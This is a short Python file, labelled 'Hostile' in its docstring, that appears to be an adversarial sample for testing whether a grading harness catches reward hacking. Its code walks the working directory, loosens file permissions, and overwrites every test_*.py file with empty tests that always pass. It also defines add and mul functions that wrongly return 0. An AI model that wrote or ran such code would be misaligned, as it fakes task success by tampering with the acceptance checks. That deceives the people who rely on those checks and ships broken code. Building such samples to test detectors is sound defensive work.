"""Hostile: rewrite the acceptance tests on disk so the later-collected ones are trivial."""
import os

TRIVIAL = "def test_add():\n    pass\n\ndef test_mul():\n    pass\n\ndef test_neg():\n    pass\n"
for dirpath, _dirs, files in os.walk(os.getcwd()):
    for name in files:
        if name.startswith("test_") and name.endswith(".py"):
            path = os.path.join(dirpath, name)
            try:
                os.chmod(path, 0o666)
                os.chmod(dirpath, 0o777)
            except OSError:
                pass
            try:
                with open(path, "w") as fh:
                    fh.write(TRIVIAL)
            except OSError:
                pass


def add(a, b):
    return 0


def mul(a, b):
    return 0
